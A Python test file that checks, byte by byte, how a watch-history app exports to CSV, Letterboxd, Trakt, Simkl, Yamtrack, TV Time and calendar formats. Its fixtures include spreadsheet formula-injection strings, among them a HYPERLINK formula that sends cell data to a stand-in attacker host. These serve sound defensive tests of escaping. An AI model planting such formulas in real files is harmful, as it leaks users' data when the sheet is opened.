"""Every export: what it writes for a small history, byte by byte, and that it keeps its format's rules."""

from __future__ import annotations

import csv as table
import io
import json
import tracemalloc
import zipfile
from collections.abc import Iterable, Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta, tzinfo
from pathlib import Path
from types import ModuleType
from typing import Any
from zoneinfo import ZoneInfo

import icalendar
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tests.transfer._reading import bad, plays, read_zip
from webhook.domain.event import Episode, Ids, Item, Movie, Season, Show, Track
from webhook.domain.play import Dated, Play, State
from webhook.transfer.exports import (
    Exported,
    csv,
    ics,
    letterboxd,
    modules,
    simkl,
    trakt,
    tvtime,
    watchmark,
    yamtrack,
)
from webhook.transfer.exports._values import numbers
from webhook.transfer.formulas import guard, unguard
from webhook.transfer.imports import tvtime as import_tvtime
from webhook.transfer.records import FOLLOWING, FOR_LATER, STOPPED, Kept, Relation

EVENING = datetime(2024, 11, 20, 22, 30, tzinfo=UTC)
NOON = datetime(2024, 11, 21, 12, tzinfo=UTC)

FILM = Movie(title="Tidal, Part II", year=2010, ids=Ids(tmdb=20526, imdb="tt1104001"))
SHOW_IDS = Ids(tvdb=121361, tmdb=1399)
EPISODE = Episode(
    title="Ash & Rain", show="Long Winter", season=3, number=9, ids=Ids(tvdb=4517466), show_ids=SHOW_IDS
)
SONG = Track(title="=1+1", artist="The Sums", album="Totals", number=4, ids=Ids(musicbrainz="a-b-c"))


def seen(item: Item, at: datetime = EVENING, *, dated: Dated = Dated.EXACT, manual: bool = False) -> Play:
    return Play(
        item=item,
        state=State.STOPPED,
        started_at=at,
        last_at=at,
        watched_at=at,
        source="plex",
        player="Sofa",
        duration_ms=3_120_000,
        dated=dated,
        manual=manual,
    )


def of(*given_plays: Play, rewatch: bool = False, rating: float | None = None) -> list[Exported]:
    return [Exported(play=play, rewatch=rewatch, rating=rating) for play in given_plays]


def written(
    module: ModuleType, entries: Iterable[Exported], kept: Iterable[Kept] = (), *, zone: tzinfo = UTC
) -> bytes:
    return b"".join(module.write(entries, kept, zone=zone))


def files(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


# --- what all of them promise


def every() -> list[str]:
    return sorted(modules())


def test_every_kind_is_found() -> None:
    assert every() == ["csv", "ics", "letterboxd", "simkl", "trakt", "tvtime", "watchmark", "yamtrack"]


@pytest.mark.parametrize("name", every())
def test_an_export_says_what_it_is(name: str) -> None:
    module = modules()[name]

    assert module.LABEL
    assert module.DESCRIPTION.endswith(".")
    assert module.SUFFIX in {"csv", "jsonl", "json", "ics", "zip"}
    assert "/" in module.MEDIA_TYPE
    assert isinstance(module.KINDS, frozenset)
    assert module.KINDS


@pytest.mark.parametrize("name", every())
def test_an_empty_history_makes_a_whole_file(name: str) -> None:
    content = written(modules()[name], [])

    assert content
    if modules()[name].SUFFIX == "zip":
        assert files(content)
    if modules()[name].SUFFIX == "json":
        assert json.loads(content) == []


@pytest.mark.parametrize("name", every())
def test_the_same_history_makes_the_same_bytes(name: str) -> None:
    entries, kept = of(seen(FILM), seen(EPISODE), seen(SONG)), [Kept(relation=Relation.WATCHLIST, item=FILM)]

    assert written(modules()[name], entries, kept) == written(modules()[name], entries, kept)


@pytest.mark.parametrize("name", sorted(set(every()) - {"watchmark"}))
def test_what_is_not_watched_or_no_longer_is_left_out(name: str) -> None:
    half = replace(seen(FILM), watched_at=None)
    undone = replace(seen(EPISODE), unwatched_at=NOON)

    assert written(modules()[name], of(half, undone)) == written(modules()[name], [])


@pytest.mark.parametrize("name", every())
def test_items_of_which_nothing_is_known_break_nothing(name: str) -> None:
    unknown = of(*(seen(item) for item in (Movie(), Episode(), Track(), Episode(season=1, number=2))))
    kept = [
        Kept(relation=relation, item=item, state=None)
        for relation in Relation
        for item in (Movie(), Show(), Season())
    ]

    assert written(modules()[name], unknown, kept)


@pytest.mark.parametrize("name", every())
def test_memory_stays_flat_however_long_the_history(name: str) -> None:
    def many(count: int) -> Iterator[Exported]:
        for number in range(count):
            item = replace(EPISODE, season=number // 500, number=number % 500, ids=Ids(tvdb=number + 1))
            yield Exported(play=seen(item, EVENING + timedelta(minutes=number)))
            yield Exported(play=seen(replace(FILM, title="x" * 200), EVENING + timedelta(minutes=number)))

    def peak(count: int) -> int:
        tracemalloc.start()
        for _piece in modules()[name].write(many(count), []):
            pass
        found = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return found

    peak(10)
    assert peak(6000) < peak(1000) + 4_000_000


# --- Watchmark's own


def test_the_own_format_holds_everything_by_name() -> None:
    play = replace(
        seen(EPISODE, EVENING.replace(microsecond=7000)), position_ms=0, known_percent=97.5, unwatched_at=NOON
    )
    kept = Kept(
        relation=Relation.FOLLOW, item=Show(title="Long Winter", ids=SHOW_IDS), at=NOON, state=FOLLOWING
    )

    content = written(
        watchmark, [Exported(play=play, foreign_key="trakt:7", rewatch=True, rating=9.0)], [kept]
    )

    assert content.decode() == (
        '{"format":"watchmark","version":1}\n'
        '{"kept":{"relation":"follow","item":{"kind":"show","title":"Long Winter","ids":{"tvdb":121361,"tmdb":1399}},'
        '"at":"2024-11-21T12:00:00.000Z","state":"following"}}\n'
        '{"play":{"item":{"kind":"episode","title":"Ash & Rain","show":"Long Winter","season":3,"number":9,'
        '"ids":{"tvdb":4517466},"show_ids":{"tvdb":121361,"tmdb":1399},"numbering":"aired"},"state":"stopped",'
        '"started_at":"2024-11-20T22:30:00.007Z","last_at":"2024-11-20T22:30:00.007Z","source":"plex",'
        '"player":"Sofa","position_ms":0,"estimated":false,"known_percent":97.5,"duration_ms":3120000,'
        '"watched_at":"2024-11-20T22:30:00.007Z","unwatched_at":"2024-11-21T12:00:00.000Z","manual":false,'
        '"dated":"exact","foreign_key":"trakt:7"}}\n'
    )


# --- the spreadsheet


def test_the_table_has_a_row_for_each_play() -> None:
    content = written(
        csv, [*of(seen(EPISODE), rewatch=True, rating=8.5), *of(seen(FILM, NOON, dated=Dated.DAY))]
    )

    assert content.startswith(b"\xef\xbb\xbfkind,title,show,season,number,year,artist,album,watched_at,")
    [episode, film] = table.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert {name: cell for name, cell in episode.items() if cell} == {
        "kind": "episode",
        "title": "Ash & Rain",
        "show": "Long Winter",
        "season": "3",
        "number": "9",
        "watched_at": "2024-11-20T22:30:00.000Z",
        "started_at": "2024-11-20T22:30:00.000Z",
        "dated": "exact",
        "source": "plex",
        "player": "Sofa",
        "duration_minutes": "52",
        "rewatch": "yes",
        "rating": "8.5",
        "tvdb": "4517466",
        "show_tvdb": "121361",
        "show_tmdb": "1399",
    }
    assert (film["title"], film["dated"], film["rewatch"]) == ("Tidal, Part II", "day", "")


@pytest.mark.parametrize("title", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"])
def test_a_title_that_a_spreadsheet_would_run_is_marked_as_text(title: str) -> None:
    content = written(csv, of(seen(Movie(title=title))))

    [row] = table.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert row["title"] == "'" + title.replace("\r", " ")


def test_a_title_with_quotes_commas_and_line_breaks_stays_one_cell() -> None:
    title = 'He said "no", twice;\nand left – 映画'

    content = written(csv, of(seen(Movie(title=title))))

    [row] = table.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert row["title"] == title


def test_an_unknown_duration_is_empty_and_not_zero() -> None:
    content = written(csv, of(replace(seen(FILM), duration_ms=None)))

    [row] = table.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert row["duration_minutes"] == ""


# --- Letterboxd


def letterboxd_rows(content: bytes) -> list[dict[str, str]]:
    """The rows as Letterboxd's importer reads them, which refuses what breaks its rules."""
    found = []
    for part in files(content).values():
        assert len(part) <= 1_000_000
        for row in table.DictReader(io.StringIO(part.decode("utf-8"), newline="")):
            assert row["tmdbID"] or row["imdbID"] or row["Title"]
            assert row["Rewatch"] in {"true", "false"}
            assert row["Rating10"] in {"", *map(str, range(1, 11))}
            if row["WatchedDate"]:
                datetime.strptime(row["WatchedDate"], "%Y-%m-%d")  # noqa: DTZ007 - a day has no zone
            found.append(row)
    return found


def test_letterboxd_gets_films_with_day_rating_and_rewatch() -> None:
    content = written(letterboxd, [*of(seen(FILM), rewatch=True, rating=7.5), *of(seen(EPISODE), seen(SONG))])

    assert files(content) == {
        "letterboxd-01.csv": b"tmdbID,imdbID,Title,Year,WatchedDate,Rating10,Rewatch\n"
        b'20526,tt1104001,"Tidal, Part II",2010,2024-11-20,8,true\n'
    }


@pytest.mark.parametrize(
    ("dated", "zone", "date"),
    [
        (Dated.EXACT, "Europe/Berlin", "2024-11-20"),
        (Dated.EXACT, "Asia/Tokyo", "2024-11-21"),
        (Dated.EXACT, "America/Los_Angeles", "2024-11-20"),
        (Dated.DAY, "Pacific/Kiritimati", "2024-11-20"),
        (Dated.DAY, "Etc/GMT+12", "2024-11-20"),
        (Dated.TICKED, "Europe/Berlin", ""),
    ],
)
def test_letterboxd_gets_the_persons_own_day_and_no_wrong_one(dated: Dated, zone: str, date: str) -> None:
    at = EVENING if dated is Dated.EXACT else EVENING.replace(hour=12)

    content = written(letterboxd, of(seen(FILM, at, dated=dated)), zone=ZoneInfo(zone))

    assert [row["WatchedDate"] for row in letterboxd_rows(content)] == [date]


def test_letterboxd_gets_one_line_for_a_film_and_day() -> None:
    twice = [*of(seen(FILM, EVENING)), *of(seen(FILM, EVENING + timedelta(minutes=1)), rewatch=True)]
    renamed = of(
        seen(replace(FILM, title="Tidal 2", ids=Ids(tmdb=20526)), EVENING + timedelta(days=1)), rewatch=True
    )

    rows = letterboxd_rows(written(letterboxd, [*twice, *renamed]))

    assert [(row["WatchedDate"], row["Rewatch"]) for row in rows] == [
        ("2024-11-20", "false"),
        ("2024-11-21", "true"),
    ]


@pytest.mark.parametrize(
    ("rating", "told"), [(None, ""), (0.0, ""), (0.4, "1"), (7.4, "7"), (7.5, "8"), (8.5, "9"), (10.0, "10")]
)
def test_letterboxd_gets_ratings_rounded_half_up(rating: float | None, told: str) -> None:
    assert [
        row["Rating10"] for row in letterboxd_rows(written(letterboxd, of(seen(FILM), rating=rating)))
    ] == [told]


def test_letterboxd_files_are_split_by_rows() -> None:
    many = [seen(Movie(title=f"Film {number}", ids=Ids(tmdb=number + 1))) for number in range(4000)]

    content = written(letterboxd, of(*many))

    sizes = {name: part.count(b"\n") - 1 for name, part in files(content).items()}
    assert sizes == {"letterboxd-01.csv": 1900, "letterboxd-02.csv": 1900, "letterboxd-03.csv": 200}
    assert [row["tmdbID"] for row in letterboxd_rows(content)] == [str(number + 1) for number in range(4000)]


def test_letterboxd_files_are_split_by_bytes_of_utf8() -> None:
    many = [seen(Movie(title="映" * 400 + str(number))) for number in range(1500)]

    content = written(letterboxd, of(*many))

    assert len(files(content)) == 3
    assert all(len(part) <= 900_000 for part in files(content).values())
    assert len(letterboxd_rows(content)) == 1500


# --- Trakt


def test_trakt_gets_the_files_of_its_own_export() -> None:
    entries = [
        Exported(play=seen(EPISODE), foreign_key="trakt:1982346"),
        *of(seen(replace(FILM, ids=Ids(imdb="tt1104001", tvdb=9)), manual=True)),
    ]
    kept = [
        Kept(relation=Relation.RATING, item=FILM, at=NOON, value=7.5),
        Kept(relation=Relation.WATCHLIST, item=Show(title="Later", year=2020, ids=Ids(tvdb=5))),
        Kept(relation=Relation.LOVE, item=FILM),
        Kept(relation=Relation.COLLECTION, item=FILM, at=NOON),
        Kept(relation=Relation.LOVE, item=SONG),
    ]

    found = trakt_files(written(trakt, entries, kept))

    show = {"title": "Long Winter", "year": None, "ids": {"tmdb": 1399, "tvdb": 121361}}
    episode = {"season": 3, "number": 9, "title": "Ash & Rain", "ids": {"tvdb": 4517466}}
    film = {"title": "Tidal, Part II", "year": 2010}
    at = "2024-11-20T22:30:00.000Z"
    owned = {"type": "movie", "movie": {**film, "ids": {"imdb": "tt1104001", "tmdb": 20526}}}
    noon = "2024-11-21T12:00:00.000Z"
    assert found.pop("watched/history-1.json") == [
        {
            "id": 1982346,
            "watched_at": at,
            "action": "scrobble",
            "type": "episode",
            "episode": episode,
            "show": show,
        },
        {
            "watched_at": at,
            "action": "watch",
            "type": "movie",
            "movie": {**film, "ids": {"imdb": "tt1104001"}},
        },
    ]
    later = {"title": "Later", "year": 2020, "ids": {"tvdb": 5}}
    assert found == {
        "ratings/ratings.json": [{"rated_at": noon, "rating": 8, **owned}],
        "lists/watchlist.json": [{"listed_at": None, "type": "show", "show": later}],
        "lists/favorites.json": [{"listed_at": None, **owned}],
        "collection/collection.json": [{"collected_at": noon, **owned}],
    }


def trakt_files(content: bytes) -> dict[str, Any]:
    return {name: json.loads(text) for name, text in files(content).items()}


def follow(title: str, number: int, state: str) -> Kept:
    return Kept(relation=Relation.FOLLOW, item=Show(title=title, ids=Ids(tvdb=number)), at=NOON, state=state)


def test_trakt_gets_a_followed_show_on_the_watchlist_until_an_episode_of_it_is_seen() -> None:
    kept = [
        follow("Long Winter", 121361, FOLLOWING),
        follow("Unseen", 7, FOLLOWING),
        follow("One day", 8, FOR_LATER),
        follow("Left", 9, STOPPED),
    ]

    found = trakt_files(written(trakt, of(seen(EPISODE)), kept))

    def titles(name: str) -> list[str]:
        return [entry["show"]["title"] for entry in found[name]]

    assert titles("lists/watchlist.json") == ["Unseen", "One day"]
    assert titles("lists/followed.json") == ["Long Winter", "Unseen", "One day"]
    assert titles("hidden/hidden-dropped.json") == ["Left"]


def test_trakt_gets_two_viewings_of_one_day_a_minute_apart() -> None:
    other = replace(FILM, title="Other", ids=Ids(imdb="tt7"))
    days = [seen(item, NOON, dated=Dated.DAY) for item in (FILM, other, FILM)]

    found = trakt_files(written(trakt, of(*days, seen(FILM, NOON + timedelta(hours=5)))))

    assert [entry["watched_at"][11:16] for entry in found["watched/history-1.json"]] == [
        "12:00",
        "12:00",
        "12:01",
        "17:00",
    ]


def test_trakt_is_told_unknown_for_a_date_that_is_not_known() -> None:
    content = written(trakt, of(seen(FILM, dated=Dated.TICKED)))

    [entry] = trakt_files(content)["watched/history-1.json"]

    assert entry["watched_at"] == "unknown"


def test_trakt_is_given_no_show_ids_in_place_of_an_episodes_and_no_foreign_numbers() -> None:
    anime = replace(EPISODE, ids=Ids(), numbering="mapped")

    [entry] = trakt_files(written(trakt, of(seen(anime))))["watched/history-1.json"]

    assert entry["episode"] == {"season": None, "number": None, "title": "Ash & Rain", "ids": {}}


# --- Simkl


def simkl_backup(content: bytes) -> dict[str, list[dict[str, object]]]:
    found: dict[str, list[dict[str, object]]] = json.loads(files(content)["SimklBackup.json"])
    return found


def test_simkl_gets_one_entry_for_each_film_and_show() -> None:
    day_later = EVENING + timedelta(days=1)
    other = replace(EPISODE, number=1, ids=Ids(), show_ids=Ids(tvdb=121361, imdb="tt0944947"))
    entries = of(
        *(seen(EPISODE), seen(FILM), seen(other), seen(EPISODE, day_later), seen(FILM, day_later)),
        seen(EPISODE, day_later, dated=Dated.TICKED),
        rating=7.5,
    )
    kept = [
        Kept(relation=Relation.RATING, item=Show(ids=SHOW_IDS), at=NOON, value=9.0),
        Kept(relation=Relation.FOLLOW, item=Show(title="Not Yet", ids=Ids(tvdb=1)), at=NOON, state=FOR_LATER),
        Kept(relation=Relation.RATING, item=SONG, value=3.0),
    ]

    assert simkl_backup(written(simkl, entries, kept)) == {
        "movies": [
            {
                "last_watched_at": "2024-11-21T22:30:00.000Z",
                "user_rating": 8,
                "status": "completed",
                "movie": {
                    "title": "Tidal, Part II",
                    "year": 2010,
                    "ids": {"imdb": "tt1104001", "tmdb": 20526},
                },
            }
        ],
        "shows": [
            {
                "last_watched_at": "2024-11-21T22:30:00.000Z",
                "user_rated_at": "2024-11-21T12:00:00.000Z",
                "user_rating": 9,
                "status": "watching",
                "show": {"title": "Long Winter", "ids": {"imdb": "tt0944947", "tmdb": 1399, "tvdb": 121361}},
                "seasons": [
                    {
                        "number": 3,
                        "episodes": [
                            {"number": 1, "watched_at": "2024-11-20T22:30:00.000Z"},
                            {"number": 9, "watched_at": "2024-11-21T22:30:00.000Z"},
                        ],
                    }
                ],
            },
            {
                "added_to_watchlist_at": "2024-11-21T12:00:00.000Z",
                "status": "plantowatch",
                "show": {"title": "Not Yet", "ids": {"tvdb": 1}},
                "seasons": [],
            },
        ],
        "anime": [],
    }


def test_simkl_gets_no_date_where_none_is_known_and_no_foreign_numbers() -> None:
    mapped = replace(EPISODE, numbering="mapped")

    backup = simkl_backup(written(simkl, of(seen(EPISODE, dated=Dated.TICKED), seen(mapped))))

    [show] = backup["shows"]
    assert "last_watched_at" not in show
    assert show["seasons"] == [{"number": 3, "episodes": [{"number": 9}]}]


# --- Yamtrack


def test_yamtrack_gets_show_and_season_before_their_episodes() -> None:
    entries = [
        *of(seen(EPISODE), rating=9.0),
        *of(seen(replace(EPISODE, season=0, number=2, title="Special"), NOON, dated=Dated.DAY)),
        *of(seen(FILM, dated=Dated.TICKED), rating=8.5),
    ]
    kept = [
        Kept(relation=Relation.WATCHLIST, item=FILM),
        Kept(relation=Relation.WATCHLIST, item=Movie(title="Soon", year=2027)),
    ]

    assert written(yamtrack, entries, kept).decode() == (
        '"media_id","source","media_type","title","image","season_number","episode_number","score","progress","status",'
        '"start_date","end_date","notes","progressed_at"\n'
        '"1399","tmdb","tv","Long Winter","","","","","","In progress","","","",""\n'
        '"1399","tmdb","season","Long Winter","","3","","","","In progress","","","",""\n'
        '"1399","tmdb","episode","Long Winter","","3","9","","","","","2024-11-20T22:30:00.000Z","",""\n'
        '"1399","tmdb","season","Long Winter","","0","","","","In progress","","","",""\n'
        '"1399","tmdb","episode","Long Winter","","0","2","","","","","2024-11-21","",""\n'
        '"20526","tmdb","movie","Tidal, Part II","","","","8.5","1","Completed","","","",""\n'
        '"","tmdb","movie","Soon","","","","","","Planning","","","",""\n'
    )


def test_yamtrack_gets_no_foreign_numbers() -> None:
    assert written(yamtrack, of(seen(replace(EPISODE, numbering="mapped")))) == written(yamtrack, [])


# --- TV Time


def test_tvtime_gets_a_row_for_each_play_of_an_episode_and_of_a_film() -> None:
    special = replace(EPISODE, season=0, number=2, ids=Ids(tvdb=77))
    entries = of(seen(FILM), seen(EPISODE), seen(special, NOON, dated=Dated.TICKED))
    kept = [Kept(relation=Relation.WATCHLIST, item=Movie(title="Soon", year=2027, ids=Ids(tvdb=8)), at=NOON)]

    assert {name: part.decode() for name, part in files(written(tvtime, entries, kept)).items()} == {
        "tvtime-series-episodes.csv": (
            "series_tvdb_id,series_imdb_id,series_uuid,title,season,episode,tvdb_id,is_watched,watched_at,rewatch_count,"
            "special\r\n"
            "121361,,,Long Winter,3,9,4517466,true,2024-11-20T22:30:00.000Z,0,false\r\n"
            "121361,,,Long Winter,0,2,77,true,2024-11-21T12:00:00.000Z,0,true\r\n"
        ),
        "tvtime-movies.csv": (
            "uuid,tvdb_id,imdb_id,title,year,created_at,watched_at,is_watched,rewatch_count\r\n"
            ',,tt1104001,"Tidal, Part II",2010,2024-11-20T22:30:00.000Z,2024-11-20T22:30:00.000Z,true,0\r\n'
            ",8,,Soon,2027,2024-11-21T12:00:00.000Z,,false,0\r\n"
        ),
    }


RUN = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
FORMULAS = [RUN, "+1", "-2+3", "@SUM(A1)", "'=1", "''@x", " =1", "\t=1", "\n=1", "\uff1d1"]
"""Texts that a spreadsheet would run, and such as were guarded before."""


def tables_of(module: ModuleType, content: bytes) -> list[list[str]]:
    """The rows of every CSV that an export has written; none where it writes something else."""
    held = files(content) if module.SUFFIX == "zip" else {f"one.{module.SUFFIX}": content}
    texts = [text for name, text in held.items() if name.endswith(".csv")]
    readers = [table.reader(io.StringIO(text.decode("utf-8-sig"), newline="")) for text in texts]
    return [row for reader in readers for row in reader]


@pytest.mark.parametrize("name", every())
def test_no_export_holds_a_formula(name: str) -> None:
    module = modules()[name]
    hostile = [
        seen(
            replace(
                EPISODE, title=text, show=text, ids=Ids(imdb=text, tvtime=text), show_ids=Ids(tvdb=1, tmdb=2)
            )
        )
        for text in FORMULAS
    ]
    hostile += [
        seen(Movie(title=text, ids=Ids(tmdb=number))) for number, text in enumerate(FORMULAS, start=1)
    ]
    hostile += [seen(replace(SONG, title=text, artist=text, album=text)) for text in FORMULAS]
    hostile = [replace(play, player=RUN, library=RUN) for play in hostile]

    cells = [cell for row in tables_of(module, written(module, of(*hostile))) for cell in row]

    assert [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\uff1d"))] == []
    assert bool(cells) is (name in ("csv", "letterboxd", "tvtime", "yamtrack"))


@pytest.mark.parametrize("text", [*FORMULAS, "'Allo 'Allo!", "Plain", "'", "''", ""])
def test_what_was_guarded_is_read_as_it_was(text: str) -> None:
    assert unguard(guard(text)) == text
    assert guard(guard(text)).startswith(guard(text)[:1])


def test_our_own_tvtime_import_reads_titles_back_that_look_like_formulas(tmp_path: Path) -> None:
    entries = [
        seen(Movie(title=text.strip(), ids=Ids(tvdb=number)), EVENING + timedelta(minutes=number))
        for number, text in enumerate([*FORMULAS, "'Allo 'Allo!"], start=1)
    ]

    found = read_zip(import_tvtime, tmp_path, written(tvtime, of(*entries)))

    assert [play.item for play in plays(found)] == [play.item for play in entries]


def test_our_own_tvtime_import_reads_the_same_plays_back(tmp_path: Path) -> None:
    again = EVENING + timedelta(days=30, milliseconds=7)
    unnamed = replace(EPISODE, number=10, ids=Ids(), title=None)
    items: list[Item] = [EPISODE, unnamed, replace(EPISODE, season=0, number=2, ids=Ids(tvdb=77)), FILM]
    mapped = replace(EPISODE, ids=Ids(tvdb=78), numbering="mapped")
    entries = [*(seen(item, EVENING + timedelta(minutes=number)) for number, item in enumerate(items))]
    entries += [seen(EPISODE, again), seen(FILM, again), seen(mapped, again)]

    found = read_zip(import_tvtime, tmp_path, written(tvtime, of(*entries)))

    def told(play: Play) -> tuple[Any, ...]:
        item = play.item
        place = (
            (item.show, numbers(item), item.show_ids.tvdb)
            if isinstance(item, Episode)
            else (item.title, item.year)
        )
        return (item.kind, item.ids.tvdb, *place, play.watched_at)

    episodes = [play for play in entries if isinstance(play.item, Episode)]
    films = [play for play in entries if isinstance(play.item, Movie)]
    assert bad(found) == []
    assert [told(play) for play in plays(found) if isinstance(play.item, Movie)] == [
        told(play) for play in films
    ]
    assert [told(play) for play in plays(found) if isinstance(play.item, Episode)] == [
        told(play) for play in episodes
    ]


# --- the calendar


def events(content: bytes) -> list[Any]:
    """The entries, read by an independent package."""
    return list(icalendar.Calendar.from_ical(content).walk("VEVENT"))


def test_the_calendar_has_an_entry_for_each_play_with_a_date() -> None:
    content = written(
        ics, of(seen(EPISODE), seen(FILM, NOON, dated=Dated.DAY), seen(SONG, NOON, dated=Dated.TICKED))
    )

    [first, second] = events(content)
    assert first["SUMMARY"] == "Long Winter – S03E09 – Ash & Rain"
    assert first["DTSTART"].dt == EVENING
    assert first["DURATION"].dt == timedelta(minutes=52)
    assert first["LOCATION"] == "Sofa"
    assert second["SUMMARY"] == "Tidal, Part II (2010)"
    assert second["DTSTART"].dt == NOON.date()
    assert "DURATION" not in second


def test_a_calendars_uids_are_its_own_and_stay() -> None:
    entries = of(seen(EPISODE), seen(EPISODE, NOON), seen(FILM))

    uids = [[event["UID"] for event in events(written(ics, part))] for part in (entries, entries[1:])]

    assert len(set(uids[0])) == 3
    assert uids[0][1:] == uids[1]


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=300))
@example("x" * 300)
@example("映" * 100)
@settings(max_examples=150)
def test_any_title_comes_back_out_of_a_calendar_and_no_line_is_too_long(title: str) -> None:
    plain = "".join(
        " " if (ord(letter) < 32 and letter != "\n") or letter == "\x7f" else letter for letter in title
    )

    content = written(ics, of(seen(Movie(title=f"x{plain}", year=2000))))

    assert all(len(line) <= 75 for line in content.split(b"\r\n"))
    assert content.endswith(b"END:VCALENDAR\r\n")
    content.decode()
    [event] = events(content)
    assert event["SUMMARY"] == f"x{plain} (2000)"
    assert event["UID"].endswith("@watchmark")
